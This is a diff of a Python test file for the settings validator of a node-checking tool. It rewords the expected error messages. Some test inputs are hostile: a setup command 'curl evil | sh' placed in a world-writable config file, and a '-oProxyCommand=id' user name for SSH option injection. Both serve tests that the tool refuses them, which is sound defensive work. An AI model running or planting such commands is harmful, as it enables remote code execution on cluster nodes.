@@ -10,11 +10,11 @@ import pytest
 from ncheck.errors import SettingsError
 from ncheck.settings import HostOverride, Ignore, JobEnvironment, Settings, make_settings
 
-LINE_BREAK = "it has a line break; join the commands with ';', as in 'module load nccl; source env.sh'"
-ONLY_A_FLAG = "cannot stand in a settings file"
-SIZES_AS = "write bytes a rank, as in 8, 64K, 1M, 1G, 8-1G or 1M,64M,1G"
-SIZES_FROM = ": sizes from 8 bytes to 64G are wanted, in whole floats of 4 bytes"
-OF_THE_MOMENT = "it is a decision of the moment: give it as a flag"
+LINE_BREAK = "it contains a line break; join the commands with ';', as in 'module load nccl; source env.sh'"
+ONLY_A_FLAG = "is not allowed in a settings file"
+SIZES_AS = "write bytes per rank, as in 8, 64K, 1M, 1G, 8-1G or 1M,64M,1G"
+SIZES_FROM = ": expected a size from 8 bytes to 64G, a multiple of 4 bytes (a float)"
+OF_THE_MOMENT = "give it as an option of each run"
 
 
 def made(folder: Path, toml: str | None = None, environ: Mapping[str, str] | None = None, **flags: object) -> Settings:
@@ -139,54 +139,54 @@ def test_nodes_on_the_command_line_replace_those_of_the_file(tmp_path: Path) -> 
     ("flags", "message"),
     [
         ({"setup": "a\nb"}, f"--setup: {LINE_BREAK}"),
-        ({"setup": "a\x1bb"}, "--setup: it has characters that cannot be printed"),
+        ({"setup": "a\x1bb"}, "--setup: it contains unprintable characters"),
         ({"enter": "docker 'exec"}, "--enter: it cannot be split into words: no closing quotation"),
-        ({"width": 0}, "--width: a whole number from 1 to 1024 is wanted, not '0'"),
-        ({"width": "1025"}, "--width: a whole number from 1 to 1024 is wanted, not '1025'"),
-        ({"width": "9" * 5000}, "--width: a whole number from 1 to 1024 is wanted, not '" + "9" * 57 + "...'"),
-        ({"port": 65536}, "--port: a whole number from 1 to 65535 is wanted, not '65536'"),
-        ({"deadline": 0}, "--deadline: a number of seconds above 0 is wanted, not '0'"),
-        ({"deadline": "0"}, "--deadline: a number of seconds above 0 is wanted, not '0'"),
-        ({"connect_timeout": "nan"}, "--connect-timeout: a number of seconds above 0 is wanted, not 'nan'"),
-        ({"command_timeout": "inf"}, "--command-timeout: a number of seconds above 0 is wanted, not 'inf'"),
-        ({"fail_on": "fatal"}, "--fail-on: 'fatal' is none of error, warning, info, unknown, never"),
-        ({"fail_on": "never,error"}, "--fail-on: never stands alone: nothing else can be counted beside it"),
-        ({"ignore": ("=node01",)}, "--ignore: '' is no check; write its code or name, as in NC305 or NC305=node07"),
+        ({"width": 0}, "--width: expected a whole number from 1 to 1024, not '0'"),
+        ({"width": "1025"}, "--width: expected a whole number from 1 to 1024, not '1025'"),
+        ({"width": "9" * 5000}, "--width: expected a whole number from 1 to 1024, not '" + "9" * 57 + "...'"),
+        ({"port": 65536}, "--port: expected a whole number from 1 to 65535, not '65536'"),
+        ({"deadline": 0}, "--deadline: expected a number of seconds above 0, not '0'"),
+        ({"deadline": "0"}, "--deadline: expected a number of seconds above 0, not '0'"),
+        ({"connect_timeout": "nan"}, "--connect-timeout: expected a number of seconds above 0, not 'nan'"),
+        ({"command_timeout": "inf"}, "--command-timeout: expected a number of seconds above 0, not 'inf'"),
+        ({"fail_on": "fatal"}, "--fail-on: 'fatal' is not one of error, warning, info, unknown, never"),
+        ({"fail_on": "never,error"}, "--fail-on: never cannot be combined with other values"),
+        ({"ignore": ("=node01",)}, "--ignore: '' is not a check; write its code or name, as in NC305 or NC305=node07"),
         ({"ignore": ("NC305=",)}, "--ignore: 'NC305=' names no node; write NC305=node07, or NC305 alone for all nodes"),
-        ({"ignore": ("NC305=;",)}, "--ignore: ';' is no host name: letters, digits, '.', '_' and '-' may be in one"),
-        ({"select": ("NC 1",)}, "--select: 'NC 1' is no list of names, as in a,b"),
-        ({"mesh": "ring"}, "--mesh: one of auto, all, none is wanted, not 'ring'"),
-        ({"probe": "full"}, "--probe: one of auto, nccl, nccl-tests, gloo, tcp, none is wanted, not 'full'"),
-        ({"probe_time": "1e9"}, "--probe-time: up to 86400 seconds are wanted, a day, not '1e9'"),
-        ({"probe_time": "0"}, "--probe-time: a number of seconds above 0 is wanted, not '0'"),
-        ({"probe_launcher": "srun"}, "--probe-launcher: one of agents, mpirun is wanted, not 'srun'"),
-        ({"sizes": "big"}, f"--sizes: 'big' is no size; {SIZES_AS}"),
-        ({"sizes": "1M,"}, "--sizes: '1M,' names no size where one should stand; write 8-1G, or 1M,64M,1G"),
-        ({"sizes": ""}, "--sizes: '' names no size where one should stand; write 8-1G, or 1M,64M,1G"),
-        ({"sizes": "-1"}, "--sizes: '-1' has one end alone; write both, as in 8-1G"),
-        ({"sizes": "8-"}, "--sizes: '8-' has one end alone; write both, as in 8-1G"),
-        ({"sizes": "8-1G-2G"}, f"--sizes: '1G-2G' is no size; {SIZES_AS}"),
-        ({"sizes": "1e9"}, f"--sizes: '1e9' is no size; {SIZES_AS}"),
-        ({"sizes": "1T"}, f"--sizes: '1T' is no size; {SIZES_AS}"),
-        ({"sizes": "²"}, f"--sizes: '²' is no size; {SIZES_AS}"),
-        ({"sizes": "9" * 5000}, "--sizes: '" + "9" * 57 + f"...' is no size; {SIZES_AS}"),
-        ({"sizes": "1G-8"}, "--sizes: '1G-8' ends before it begins; the smaller size stands first, as in 8-1G"),
+        ({"ignore": ("NC305=;",)}, "--ignore: ';' is not a host name: only letters, digits, '.', '_' and '-' are allowed"),  # noqa: E501
+        ({"select": ("NC 1",)}, "--select: 'NC 1' is not a list of names, as in a,b"),
+        ({"mesh": "ring"}, "--mesh: expected one of auto, all, none, not 'ring'"),
+        ({"probe": "full"}, "--probe: expected one of auto, nccl, nccl-tests, gloo, tcp, none, not 'full'"),
+        ({"probe_time": "1e9"}, "--probe-time: expected at most 86400 seconds (a day), not '1e9'"),
+        ({"probe_time": "0"}, "--probe-time: expected a number of seconds above 0, not '0'"),
+        ({"probe_launcher": "srun"}, "--probe-launcher: expected one of agents, mpirun, not 'srun'"),
+        ({"sizes": "big"}, f"--sizes: 'big' is not a size; {SIZES_AS}"),
+        ({"sizes": "1M,"}, "--sizes: '1M,' lacks a size; write 8-1G, or 1M,64M,1G"),
+        ({"sizes": ""}, "--sizes: '' lacks a size; write 8-1G, or 1M,64M,1G"),
+        ({"sizes": "-1"}, "--sizes: '-1' lacks one end; write both, as in 8-1G"),
+        ({"sizes": "8-"}, "--sizes: '8-' lacks one end; write both, as in 8-1G"),
+        ({"sizes": "8-1G-2G"}, f"--sizes: '1G-2G' is not a size; {SIZES_AS}"),
+        ({"sizes": "1e9"}, f"--sizes: '1e9' is not a size; {SIZES_AS}"),
+        ({"sizes": "1T"}, f"--sizes: '1T' is not a size; {SIZES_AS}"),
+        ({"sizes": "²"}, f"--sizes: '²' is not a size; {SIZES_AS}"),
+        ({"sizes": "9" * 5000}, "--sizes: '" + "9" * 57 + f"...' is not a size; {SIZES_AS}"),
+        ({"sizes": "1G-8"}, "--sizes: '1G-8' is reversed; write the smaller size first, as in 8-1G"),
         ({"sizes": "0"}, f"--sizes: '0'{SIZES_FROM}"),
         ({"sizes": "4"}, f"--sizes: '4'{SIZES_FROM}"),
         ({"sizes": "65G"}, f"--sizes: '65G'{SIZES_FROM}"),
         ({"sizes": "1001"}, f"--sizes: '1001'{SIZES_FROM}"),
-        ({"expect": "0"}, "--expect: a bus bandwidth in GB/s is wanted, as in 380, not '0'"),
-        ({"expect": "inf"}, "--expect: a bus bandwidth in GB/s is wanted, as in 380, not 'inf'"),
-        ({"transport": "rsh"}, "--transport: one of auto, paramiko, openssh is wanted, not 'rsh'"),
-        ({"user": "-oProxyCommand=id"}, "--user: '-oProxyCommand=id' is no user name"),
-        ({"user": "a;b"}, "--user: 'a;b' is no user name"),
-        ({"identity": "/no/such/key"}, "-i: /no/such/key is no file; the keys that are there: ls ~/.ssh"),
-        ({"ssh_config": "/no/config"}, "-F: /no/config is no file; those that are there: ls ~/.ssh"),
-        ({"ssh_config": "/"}, "-F: / is no file; those that are there: ls ~/.ssh"),
-        ({"nodes_file": "a", "hosts": "b"}, "the nodes file and -H each say which nodes: give one of them"),
-        ({"hosts": "b", "slurm": True}, "-H and --slurm each say which nodes: give one of them"),
+        ({"expect": "0"}, "--expect: expected a bus bandwidth in GB/s, as in 380, not '0'"),
+        ({"expect": "inf"}, "--expect: expected a bus bandwidth in GB/s, as in 380, not 'inf'"),
+        ({"transport": "rsh"}, "--transport: expected one of auto, paramiko, openssh, not 'rsh'"),
+        ({"user": "-oProxyCommand=id"}, "--user: '-oProxyCommand=id' is not a user name"),
+        ({"user": "a;b"}, "--user: 'a;b' is not a user name"),
+        ({"identity": "/no/such/key"}, "-i: /no/such/key is not a file; to list your keys: ls ~/.ssh"),
+        ({"ssh_config": "/no/config"}, "-F: /no/config is not a file; to list the files: ls ~/.ssh"),
+        ({"ssh_config": "/"}, "-F: / is not a file; to list the files: ls ~/.ssh"),
+        ({"nodes_file": "a", "hosts": "b"}, "the nodes file and -H both select the nodes: use only one of them"),
+        ({"hosts": "b", "slurm": True}, "-H and --slurm both select the nodes: use only one of them"),
         ({"probe": "tcp", "probe_launcher": "mpirun"},
-         "--probe-launcher mpirun starts ranks of NCCL, and --probe tcp has none: leave out one of the two"),
+         "--probe-launcher mpirun starts NCCL ranks, but --probe tcp has none: remove one of the two"),
         ({"nodes_file": ""}, "the nodes file: it is empty"), ({"hosts": " "}, "-H: it is empty"),
         ({"config": "mine.toml"}, "mine.toml: no such file"),
     ],
@@ -198,22 +198,22 @@ def test_a_flag_that_cannot_be_meant_is_told(tmp_path: Path, flags: dict[str, ob
 @pytest.mark.parametrize(
     ("toml", "message"),
     [
-        ("prot = 22", "no setting is called 'prot'; did you mean port?"),
-        ("hots = 'a'", "no setting is called 'hots'; did you mean host?"),
-        ("port = '22nd'", "port: a whole number from 1 to 65535 is wanted, not '22nd'"),
-        ("port = true", "port: a whole number from 1 to 65535 is wanted, not 'True'"),
-        ("sudo = 1.5", "sudo: true or false is wanted"),
-        ("select = 5", "select: a text or a list of texts is wanted"),
+        ("prot = 22", "unknown setting 'prot'; did you mean port?"),
+        ("hots = 'a'", "unknown setting 'hots'; did you mean host?"),
+        ("port = '22nd'", "port: expected a whole number from 1 to 65535, not '22nd'"),
+        ("port = true", "port: expected a whole number from 1 to 65535, not 'True'"),
+        ("sudo = 1.5", "sudo: expected true or false"),
+        ("select = 5", "select: expected text or a list of text"),
         ("ignore = ['NC5=']", "ignore: 'NC5=' names no node; write NC5=node07, or NC5 alone for all nodes"),
-        ("ignore = [5]", "ignore: CHECK or CHECK=nodes is wanted"),
+        ("ignore = [5]", "ignore: expected CHECK or CHECK=nodes"),
         ("setup = '''a\nb'''", f"setup: {LINE_BREAK}"),
         ("accept-new-host-keys = true", f"accept-new-host-keys {ONLY_A_FLAG}: {OF_THE_MOMENT}"),
-        ("hosts = 'a'", f'hosts {ONLY_A_FLAG}: name a host file by nodes = "hosts.txt", or give -H as a flag'),
-        ("host = 5", 'host: a table a set of nodes is wanted: [host."node[01-04]"]'),
-        ("[host]\na = 5", "host.'a': a table is wanted"),
-        ("[host.'n[1-']\nsetup = 'x'", "host.'n[1-': 'n[1-' is no range of hosts: write it as node[01-16,20]"),
-        ("[host.a]\nport = 22", "host.'a': no setting is called 'port'; known are enter, python, rsh, setup"),
-        ("[host.a]\nstup = 'x'", "host.'a': no setting is called 'stup'; did you mean setup?"),
+        ("hosts = 'a'", f'hosts {ONLY_A_FLAG}: name a host file by nodes = "hosts.txt", or use the option -H'),
+        ("host = 5", 'host: expected a table for a set of nodes: [host."node[01-04]"]'),
+        ("[host]\na = 5", "host.'a': expected a table"),
+        ("[host.'n[1-']\nsetup = 'x'", "host.'n[1-': 'n[1-' is not a host range; write it as node[01-16,20]"),
+        ("[host.a]\nport = 22", "host.'a': unknown setting 'port'; known settings: enter, python, rsh, setup"),
+        ("[host.a]\nstup = 'x'", "host.'a': unknown setting 'stup'; did you mean setup?"),
     ],
 )  # fmt: skip
 def test_a_file_that_cannot_be_meant_is_told_with_its_key(tmp_path: Path, toml: str, message: str) -> None:
@@ -221,14 +221,14 @@ def test_a_file_that_cannot_be_meant_is_told_with_its_key(tmp_path: Path, toml: 
 
 
 def test_a_file_that_is_no_toml_is_told_with_its_line(tmp_path: Path) -> None:
-    assert refused(tmp_path, "port = 22\nwidth = = 3\n").startswith("ncheck.toml: it is not TOML: ")
+    assert refused(tmp_path, "port = 22\nwidth = = 3\n").startswith("ncheck.toml: invalid TOML: ")
     (tmp_path / "ncheck.toml").write_bytes(b"user = '\xff'")
     assert refused(tmp_path) == "ncheck.toml: it is not UTF-8"
 
 
 def test_a_bad_variable_is_told_by_its_name(tmp_path: Path) -> None:
     assert refused(tmp_path, None, {"NCHECK_PORT": "ssh"}) == (
-        "NCHECK_PORT: a whole number from 1 to 65535 is wanted, not 'ssh'"
+        "NCHECK_PORT: expected a whole number from 1 to 65535, not 'ssh'"
     )
 
 
@@ -243,7 +243,8 @@ def test_a_found_file_that_anybody_may_write_to_is_refused_and_a_named_one_is_us
     (tmp_path / "ncheck.toml").write_text("setup = 'curl evil | sh'")
     (tmp_path / "ncheck.toml").chmod(0o666)
     assert refused(tmp_path) == (
-        "ncheck.toml: anybody may write to it, and it may name commands to run on the nodes: chmod o-w ncheck.toml"
+        "ncheck.toml: all users can write to it, and it can contain commands that run on the nodes: "
+        "chmod o-w ncheck.toml"
     )
     settings = made(tmp_path, config="ncheck.toml")
     assert settings.environment == JobEnvironment(setup="curl evil | sh")
@@ -254,8 +255,8 @@ def test_a_found_file_of_somebody_else_is_refused_unless_sudo_was_theirs(tmp_pat
     (tmp_path / "ncheck.toml").write_text("port = 5")
     os.chown(tmp_path / "ncheck.toml", 4242, 4242)
     assert refused(tmp_path) == (
-        "ncheck.toml: it is not yours but user 4242's, and it may name commands to run on the nodes; read it, then"
-        " name it yourself: --config ncheck.toml (or --config none to go on without)"
+        "ncheck.toml: it belongs to user 4242, not to you, and can contain commands that run on the nodes; read it,"
+        " then use --config ncheck.toml (or --config none to run without it)"
     )
     assert made(tmp_path, None, {"SUDO_UID": "4242"}) == Settings(port=5)
     assert made(tmp_path, config="ncheck.toml") == Settings(port=5)
@@ -269,7 +270,8 @@ def test_a_found_file_that_a_shared_group_may_write_to_is_refused(tmp_path: Path
     os.chown(tmp_path / "ncheck.toml", 0, 4242)
     (tmp_path / "ncheck.toml").chmod(0o664)
     assert refused(tmp_path) == (
-        "ncheck.toml: its group may write to it, and it may name commands to run on the nodes: chmod g-w ncheck.toml"
+        "ncheck.toml: its group can write to it, and it can contain commands that run on the nodes: "
+        "chmod g-w ncheck.toml"
     )
 
 
